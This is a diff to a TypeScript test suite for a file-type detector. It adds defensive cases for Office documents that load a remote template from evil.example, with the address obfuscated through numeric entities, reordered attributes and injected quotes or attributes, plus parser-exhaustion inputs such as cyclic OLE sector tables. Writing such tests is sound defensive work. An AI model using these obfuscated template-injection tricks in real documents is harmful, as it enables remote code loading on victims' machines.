@@ -27,6 +27,11 @@ const bytesOf = (content: string | Buffer) => {
 const typeOf = (content: string | Buffer) => sniff(bytesOf(content));
 
 const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
+const RELS = 'word/_rels/settings.xml.rels';
+const DOCX = 'word/document.xml';
+/** With the address in front of all else. */
+const turned = (relationships: string) =>
+  relationships.replace(/(<Relationship )(.*) (Target="[^"]*")\/>/, '$1$3 $2/>');
 const MANY = Array.from({ length: 40 }, (_, n) => `stream ${n}`);
 
 describe('a file is what its bytes say', () => {
@@ -126,6 +131,7 @@ describe('a file is what its bytes say', () => {
     ['a text that ends in the middle of a colour', 'a\u001b[1;3'],
     ['a sequence at the border of a block', `${'x'.repeat(65_534)}\u001b[2J`],
     ['a text with an end in its middle', 'a\u001ab'],
+    ['a text with more of its end than of itself', `a${'\u001a'.repeat(513)}`],
     ['a text that is cut in a character', Buffer.from('é'.repeat(70_000)).subarray(0, -1)],
   ])('%s is none of ours', async (_, content) => {
     expect(await typeOf(content)).toBeNull();
@@ -162,8 +168,6 @@ describe('S17 what a program could run or show as a page', () => {
 });
 
 describe('S17 a document that does something when it is opened', () => {
-  const RELS = 'word/_rels/settings.xml.rels';
-  const DOCX = 'word/document.xml';
   const types = (type: string) => ({
     '[Content_Types].xml': `<Types><Override PartName="/x/a.bin" ContentType="${type}"/></Types>`,
   });
@@ -231,6 +235,28 @@ describe('S17 a document that does something when it is opened', () => {
     [
       'one that is hidden',
       ooxml(DOCX, { [RELS]: relationship('attachedTemplate', '&#104;ttps://evil.example/a.dotm') }),
+      'remote',
+    ],
+    [
+      'one written in numbers with many zeros',
+      ooxml(DOCX, { [RELS]: relationship('attachedTemplate', '&#x000000000068;ttps://evil.example/a.dotm') }),
+      'remote',
+    ],
+    [
+      'one whose address comes first and holds the end of a tag',
+      ooxml(DOCX, { [RELS]: turned(relationship('attachedTemplate', 'https://evil.example/?>a.dotm')) }),
+      'remote',
+    ],
+    [
+      'one whose address holds a quote in numbers, and more',
+      ooxml(DOCX, { [RELS]: turned(relationship('attachedTemplate', 'https://evil.example/?&#34;>a.dotm')) }),
+      'remote',
+    ],
+    [
+      'one whose address holds an attribute',
+      ooxml(DOCX, {
+        [RELS]: turned(relationship('attachedTemplate', "https://evil.example/? TargetMode='Internal' a.dotm")),
+      }),
       'remote',
     ],
     [
@@ -302,6 +328,46 @@ describe('why a file is not taken', () => {
     ['an encrypted document', ole(['EncryptedPackage', 'EncryptionInfo']), 'unreadable'],
   ])('%s', async (_, content, why) => {
     expect([await typeOf(content), await whyNot(bytesOf(content))]).toEqual([null, why]);
+  });
+});
+
+/** Tables that are each short, and all the same one. */
+function manyTables(count: number): Buffer {
+  const [begin, sectors] = [1 + Math.ceil((count + 1) / 4), 100];
+  const file = ole(Array.from({ length: count }, () => 'Workbook'));
+  for (let n = 0; n < sectors; n++) {
+    file.writeUInt32LE(n === sectors - 1 ? 0xfffffffe : begin + n + 1, 512 + (begin + n) * 4);
+  }
+  for (let n = 1; n <= count; n++) {
+    file.writeUInt32LE(begin, 1_024 + n * 128 + 116);
+    file.writeUInt32LE(sectors * 512, 1_024 + n * 128 + 120);
+  }
+  const records = Buffer.alloc(sectors * 512);
+  records.writeUInt16LE(0x0a, records.length - 4);
+  return Buffer.concat([file, records]);
+}
+
+describe('a file that is made to be looked at for long', () => {
+  it.each<[string, Buffer | string]>([
+    ['ends of a text of DOS, and a letter', `${'\u001a'.repeat(500_000)}a`],
+    ['ends of a text of DOS', '\u001a'.repeat(2_000_000)],
+    ['relationships without an end', ooxml(DOCX, { [RELS]: '<Relationship '.repeat(60_000) })],
+    ['relationships with a quote', ooxml(DOCX, { [RELS]: '<Relationship a="'.repeat(60_000) })],
+    ['a relationship of one long name', ooxml(DOCX, { [RELS]: `<Relationship ${'a'.repeat(900_000)}>` })],
+    ['numbers without an end', ooxml(DOCX, { [RELS]: '&#000'.repeat(180_000) })],
+    ['tables and tables', manyTables(60)],
+  ])('does not keep us from others: %s', async (_what, content) => {
+    const begin = performance.now();
+    await typeOf(content);
+    // A second on a busy machine; what tries each place anew takes minutes.
+    expect(performance.now() - begin).toBeLessThan(5_000);
+  });
+
+  it('is refused when its tables go on and on', async () => {
+    expect([await whyNot(bytesOf(manyTables(60))), await typeOf(manyTables(2))]).toEqual([
+      'unreadable',
+      'application/vnd.ms-excel',
+    ]);
   });
 });
 
